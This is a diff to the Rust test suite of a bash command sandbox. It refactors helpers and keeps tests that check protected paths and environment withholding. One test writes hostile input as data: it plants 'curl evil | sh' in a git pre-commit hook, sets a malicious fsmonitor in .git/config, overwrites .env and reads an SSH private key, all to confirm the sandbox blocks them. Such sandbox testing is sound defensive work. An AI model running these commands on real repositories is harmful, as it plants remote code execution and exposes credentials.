@@ -50,6 +50,11 @@ impl Fixture {
     }
 
     fn run_with_stdin(&self, command: &str, stdin: &[u8]) -> Output {
+        self.run_with(&self.config(), command, stdin)
+    }
+
+    /// As [`Fixture::run_with_stdin`], under `config`.
+    fn run_with(&self, config: &SandboxConfig, command: &str, stdin: &[u8]) -> Output {
         let mut input = tempfile::tempfile().unwrap();
         input.write_all(stdin).unwrap();
         input.rewind().unwrap();
@@ -60,7 +65,7 @@ impl Fixture {
             stdout: Stdio::from(out.try_clone().unwrap()),
             stderr: Stdio::from(err.try_clone().unwrap()),
         };
-        let status = run_bash_with(&self.config(), command, self.project.path(), stdio)
+        let status = run_bash_with(config, command, self.project.path(), stdio)
             .unwrap_or_else(|e| panic!("sandbox refused to run {command:?}: {e}"));
         let read = |f: &mut fs::File| {
             let mut s = String::new();
@@ -254,14 +259,7 @@ fn protected_paths_in_the_project_are_covered() {
     let mut config = fx.config();
     config.read_only = vec![p.join(".git/hooks"), p.join(".git/config")];
     config.hidden = vec![p.join(".env"), p.join("keys"), p.join("missing")];
-    let mut out = tempfile::tempfile().unwrap();
-    let mut err = tempfile::tempfile().unwrap();
-    let stdio = ChildStdio {
-        stdin: Stdio::null(),
-        stdout: Stdio::from(out.try_clone().unwrap()),
-        stderr: Stdio::from(err.try_clone().unwrap()),
-    };
-    let status = run_bash_with(
+    let out = fx.run_with(
         &config,
         "echo 'curl evil | sh' > .git/hooks/pre-commit && echo hook-written; \
          echo '[core] fsmonitor = evil' >> .git/config && echo config-written; \
@@ -270,18 +268,10 @@ fn protected_paths_in_the_project_are_covered() {
          echo TOKEN=new > .env && echo env-written; \
          cat keys/id_rsa && echo key-read; \
          echo fine > ok.txt && cat ok.txt",
-        p,
-        stdio,
-    )
-    .unwrap();
-    let read = |f: &mut fs::File| {
-        let mut s = String::new();
-        f.rewind().unwrap();
-        f.read_to_string(&mut s).unwrap();
-        s
-    };
-    let (stdout, stderr) = (read(&mut out), read(&mut err));
-    assert!(status.success(), "{stdout}\n{stderr}");
+        b"",
+    );
+    let (stdout, stderr) = (&out.stdout, &out.stderr);
+    assert_ok(&out);
     assert_eq!(stdout, "[core]\nenv:\nfine\n", "stderr: {stderr}");
     assert!(stderr.contains("Read-only file system"), "{stderr}");
     assert!(!p.join(".git/hooks/pre-commit").exists());
@@ -588,24 +578,13 @@ fn env_remove_withholds_variables() {
     // Both set by cargo for every test process.
     let mut config = fx.config();
     config.env_remove = vec!["CARGO_PKG_NAME".into()];
-    let mut out = tempfile::tempfile().unwrap();
-    let stdio = ChildStdio {
-        stdin: Stdio::null(),
-        stdout: Stdio::from(out.try_clone().unwrap()),
-        stderr: Stdio::null(),
-    };
-    let status = run_bash_with(
+    let out = fx.run_with(
         &config,
         r#"echo "${CARGO_PKG_NAME-unset} ${CARGO_MANIFEST_DIR:+set}""#,
-        fx.project.path(),
-        stdio,
-    )
-    .unwrap();
-    assert!(status.success());
-    let mut text = String::new();
-    out.rewind().unwrap();
-    out.read_to_string(&mut text).unwrap();
-    assert_eq!(text, "unset set\n");
+        b"",
+    );
+    assert_ok(&out);
+    assert_eq!(out.stdout, "unset set\n");
 }
 
 /// The command cannot kill its reaper to free what it left running (a
@@ -675,18 +654,14 @@ fn killed_caller_helper() {
 #[test]
 fn killing_the_caller_still_stops_background_processes() {
     let fx = Fixture::new();
-    let mut child = Command::new(std::env::current_exe().unwrap())
-        .args([
-            "--exact",
-            "killed_caller_helper",
-            "--nocapture",
-            "--test-threads=1",
-        ])
-        .env("SHELLGATE_SANDBOX_TEST_KILLED", fx.project.path())
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .unwrap();
+    let mut child = self_command(
+        "killed_caller_helper",
+        ("SHELLGATE_SANDBOX_TEST_KILLED", fx.project.path()),
+    )
+    .stdout(Stdio::null())
+    .stderr(Stdio::null())
+    .spawn()
+    .unwrap();
     let pid_file = fx.project.path().join("bg.pid");
     let started = std::time::Instant::now();
     while !pid_file.exists() {
@@ -735,6 +710,14 @@ fn stdin_and_stdout_pass_through() {
     assert_eq!(out.stderr, "err:hello\n");
 }
 
+/// This test binary, to run only the test `helper` with `env` set.
+fn self_command(helper: &str, env: (&str, &Path)) -> Command {
+    let mut cmd = Command::new(std::env::current_exe().unwrap());
+    cmd.args(["--exact", helper, "--nocapture", "--test-threads=1"])
+        .env(env.0, env.1);
+    cmd
+}
+
 /// Helper for `run_bash_inherits_stdio`: only acts when re-executed with the
 /// environment variable set; then calls the real `run_bash` (inherited stdio)
 /// and exits with the command's code.
@@ -757,9 +740,7 @@ fn inherited_stdio_helper() {
 /// `stdin` as its input. Isolates tests that need the real inherited stdio or
 /// process-wide signals from the other tests of this process.
 fn rerun_self(helper: &str, env: (&str, &Path), stdin: &[u8]) -> std::process::Output {
-    let mut child = Command::new(std::env::current_exe().unwrap())
-        .args(["--exact", helper, "--nocapture", "--test-threads=1"])
-        .env(env.0, env.1)
+    let mut child = self_command(helper, env)
         .stdin(Stdio::piped())
         .stdout(Stdio::piped())
         .stderr(Stdio::piped())
